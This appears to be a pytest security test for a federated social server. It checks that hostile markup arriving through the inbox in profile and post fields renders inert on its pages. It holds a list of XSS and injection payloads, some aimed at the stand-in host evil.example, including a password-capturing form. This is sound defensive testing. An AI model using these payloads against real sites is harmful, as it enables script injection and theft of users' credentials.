"""Classes F and L where they meet federation: hostile markup comes in by the inbox and is looked at in the pages."""

import html.parser

import pytest

from tests.security.conftest import Siege

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    '<a href="&#106;avascript:alert(1)">x</a>',
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></mtext></math>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<form action=https://evil.example><input name=password></form>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<object data=x></object><embed src=x>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '"><script>alert(1)</script>',
    "'-alert(1)-'",
    "{{ 7 * 7 }}{% raw %}",
    "</title></textarea></style></script><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="https://x" target=_blank onclick=alert(1) id=deeds name=token>x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202egnp.exe \u2066x",
]
# What our own pages are made of; anything else, or these with a handler, came in by a payload.
FORBIDDEN_TAGS = {"iframe", "object", "embed", "base", "math", "template", "noscript", "style", "applet", "frame"}


class _Watch(html.parser.HTMLParser):
    """Reads a page as a browser would and notes what must not be there."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = {name: (value or "") for name, value in attrs}
        if tag in FORBIDDEN_TAGS or (tag == "script" and not given.get("src", "").startswith("/assets/")):
            self.found.append(tag)
        for name, value in given.items():
            plain = "".join(value.split()).lower()
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action", "formaction") and plain.startswith(
                ("javascript:", "data:", "vbscript:")
            ):
                self.found.append(f"{tag} {name}={value}")
        if tag == "form" and not given.get("action", "").startswith("/"):
            self.found.append(f"form {given.get('action')}")
        if tag == "meta" and given.get("http-equiv"):
            self.found.append("meta http-equiv")
        if tag == "link" and "evil.example" in given.get("href", "") and given.get("rel") == "stylesheet":
            self.found.append("link")


def check(page: str) -> None:
    watch = _Watch()
    watch.feed(page)
    watch.close()
    assert watch.found == []
    assert "49{%" not in page


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
async def test_t36_markup_of_others_is_shown_and_does_nothing(siege: Siege, payload):
    # Given mallory, all of whose words are hostile, and alice who follows her
    mallory = siege.mallory.host.person(
        "trudy",
        name=payload,
        summary=payload,
        url=f"https://evil.example/{payload}",
        icon={"type": "Image", "url": f"https://evil.example/{payload}"},
        attachment=[{"type": "PropertyValue", "name": payload, "value": payload}],
    )
    await siege.let_follow(siege.alice, await siege.known(mallory))
    parent = await siege.publish()
    note = mallory.note(
        payload,
        name=payload,
        summary=payload,
        url=payload,
        inReplyTo=parent.uri,
        attachment=[
            {"type": "Image", "mediaType": "image/png", "url": "https://evil.example/1.png", "name": payload},
            {"type": "Image", "mediaType": payload, "url": "javascript:alert(1)", "name": payload, "blurhash": payload},
        ],
        tag=[
            {"type": "Hashtag", "name": f"#{payload}", "href": "javascript:alert(1)"},
            {"type": "Mention", "name": payload, "href": siege.alice.uri},
            {"type": "Emoji", "name": payload, "icon": {"url": "javascript:alert(1)"}},
        ],
    )

    # When it comes in
    await siege.send(mallory, mallory.create(note))
    post = await siege.find_post(str(note["id"]))
    assert post is not None

    # Then every page that shows it is our page and nothing else
    for path in (f"/@trudy@evil.example/{post.id}", "/@trudy@evil.example", f"/@alice/{parent.id}", "/"):
        page = await siege.get(path, accept="text/html")
        assert page.status_code == 200
        check(page.text)
        assert "script-src 'self'" in page.headers["content-security-policy"]


async def test_t36_an_address_that_is_no_web_address_is_not_kept(siege: Siege):
    mallory = siege.mallory.host.person("trudy", url="javascript:alert(1)", icon={"url": "data:image/svg+xml,<svg/>"})
    known = await siege.known(mallory)

    assert (known.url or "").startswith("https://") or known.url is None
    assert known.icon_url is None


@pytest.mark.parametrize("path", ["/users/alice", "/@alice", "/", "/.well-known/nodeinfo", "/media/x", "/about"])
async def test_t71_what_browsers_get_is_not_sniffed(siege: Siege, path):
    answer = await siege.get(path, accept="text/html")

    assert answer.headers["content-type"] and (
        answer.headers.get("x-content-type-options") == "nosniff"
        or not answer.headers["content-type"].startswith(("text/html", "image/"))
    )
